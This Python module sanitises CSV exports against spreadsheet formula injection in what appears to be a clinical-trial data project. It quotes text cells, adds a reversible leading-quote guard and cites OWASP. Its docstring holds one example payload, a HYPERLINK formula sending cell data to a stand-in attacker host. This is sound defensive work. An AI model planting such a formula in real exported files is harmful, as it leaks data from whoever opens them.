"""Formula-safe text cells for every file meant to be opened in a spreadsheet (CSV exports and listings).

Why: a spreadsheet runs a cell that begins with ``=``, ``+``, ``-`` or ``@`` as a formula, and a leading tab or
carriage return can smuggle one past a first-character check, so an AE term typed as
``=HYPERLINK("http://evil.example/?"&A1,"click")`` becomes a live link that sends data away when the file is
opened (CSV injection). OWASP's advice is followed: such a text cell is written with a leading single quote,
which every spreadsheet shows as text and does not display; embedded double quotes are escaped by the CSV
writer (doubled inside a quoted cell, the standard's own rule), so no cell can break out of its quotes.

The rule, used by every CSV writer of the project (one function, :func:`neutralise`):

- only *text* cells are touched; numbers, dates and booleans are written as themselves, so ``-1.5`` in a numeric
  column stays a number; a text cell that is exactly a plain decimal number (``-1.5``, ``+3``) is left too, since
  a spreadsheet reads it as that number and nothing runs;
- a text cell beginning with ``=``, ``+``, ``-``, ``@``, tab or carriage return gets a leading ``'``;
- a text cell that already begins with ``'`` gets one more, so the guard is reversible: :func:`restore` drops
  exactly one leading ``'`` and gives back the text as entered (the analysis-data reader does this).

Standards that need the raw value (SDTM/ADaM XPT and Dataset-JSON, ODM XML, Define-XML) are not spreadsheet
files and keep it raw.
"""

from __future__ import annotations

import datetime as dt
import re
from collections.abc import Iterable, Sequence

__all__ = ["FORMULA_TRIGGERS", "GUARD", "cell", "csv_text", "neutralise", "restore"]

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
"""First characters that make a spreadsheet treat a cell as a formula (OWASP, CSV injection)."""

GUARD = "'"
"""The prefix that makes a spreadsheet show a cell as text; shown by no spreadsheet, removed by :func:`restore`."""

_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


def neutralise(text: str) -> str:
    """``text`` safe as a spreadsheet cell: guarded by a leading ``'`` when it could start a formula."""
    if not text or _PLAIN_NUMBER.fullmatch(text):
        return text
    if text.startswith((*FORMULA_TRIGGERS, GUARD)):
        return GUARD + text
    return text


def restore(text: str) -> str:
    """The text :func:`neutralise` was given: one leading guard removed (the inverse, for readers)."""
    return text[1:] if text.startswith(GUARD) else text


def cell(value: object) -> str:
    """One value as a CSV cell: empty for None, ``true``/``false``, whole floats without ``.0``, ISO 8601 dates,
    numbers as numbers, and text through :func:`neutralise`."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, float) and value.is_integer():
        return str(int(value)) if abs(value) < 1e15 else repr(value)
    if isinstance(value, int | float):
        return str(value)
    if isinstance(value, dt.date | dt.time) or hasattr(value, "isoformat"):
        return str(value.isoformat())
    return neutralise(str(value))


def _quoted(text: str) -> str:
    """RFC 4180 quoting: a cell holding a comma, quote, line feed or carriage return is quoted, quotes doubled.

    (Python's csv writer leaves a lone carriage return unquoted when lines end in ``\n``, which splits the row
    in a reader; hence this one rule written out.)
    """
    return '"' + text.replace('"', '""') + '"' if any(ch in text for ch in ',"\n\r') else text


def csv_text(columns: Sequence[str], rows: Iterable[Sequence[object]]) -> str:
    """A whole CSV document (header row, ``\n`` line ends, RFC 4180 quoting) with every cell made by :func:`cell`."""
    lines = [",".join(_quoted(neutralise(c)) for c in columns)]
    for row in rows:
        cells = [cell(v) for v in row]
        lines.append('""' if cells == [""] else ",".join(_quoted(c) for c in cells))
    return "".join(line + "\n" for line in lines)
